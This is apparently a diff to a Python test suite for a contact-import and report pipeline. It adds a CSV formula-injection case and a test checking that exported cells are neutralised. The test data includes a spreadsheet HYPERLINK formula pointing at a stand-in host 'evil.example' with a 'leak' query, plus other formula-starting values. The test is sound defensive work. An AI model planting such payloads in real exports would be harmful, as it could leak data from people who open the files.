@@ -228,7 +228,34 @@ NUL_EMAIL = Case(
     report=((1, "invalid", "email"),),
     delivered=("n2@example.com",),
 )
-ALL = [*FAILED, *(cast(Case, p.values[0]) for p in KNOWN_CRASHES), *ROW_CASES, EMPTY_SEGMENT, NUL_EMAIL]
+# Customer data that a spreadsheet would evaluate (OWASP's CSV injection starts: = + - @ tab CR).
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak","open me")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+2",
+    "\r=1+2",
+)
+FORMULA_CELLS = Case(
+    "formula-cells",
+    {
+        "model.json": model_json(),
+        CSV_1: HEADER
+        + b"".join(b'"' + f.replace('"', '""').encode() + b'",Eve\n' for f in FORMULAS)
+        + b"o1@example.com,Ola\n",
+    },
+    counts={"profilesRead": 7, "invalid": 6, "confirmed": 1},
+    delivered=("o1@example.com",),
+)
+ALL = [
+    *FAILED,
+    *(cast(Case, p.values[0]) for p in KNOWN_CRASHES),
+    *ROW_CASES,
+    EMPTY_SEGMENT,
+    NUL_EMAIL,
+    FORMULA_CELLS,
+]
 
 
 @dataclass
@@ -341,6 +368,17 @@ async def test_an_email_with_a_control_character_is_invalid_and_never_sent(
     outcomes: Outcomes, bad_stack: Stack
 ) -> None:
     check_rows(outcomes, bad_stack, NUL_EMAIL)
+
+
+async def test_report_cells_that_a_spreadsheet_would_evaluate_are_neutralised(outcomes: Outcomes) -> None:
+    # the report the run wrote, downloaded through the API and read by a CSV reader
+    report = outcomes.reports[export_name(FORMULA_CELLS)]
+
+    # each formula comes back as text: the (trimmed) email behind a single quote, whatever CSV quoting it needed
+    emails = sorted(r["email"] for r in report)
+    assert emails == sorted("'" + f.strip() for f in FORMULAS), emails
+    # and no cell of the report starts like a formula
+    assert not [v for r in report for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")], report
 
 
 async def test_an_empty_segment_is_skipped_with_a_reason(outcomes: Outcomes) -> None:
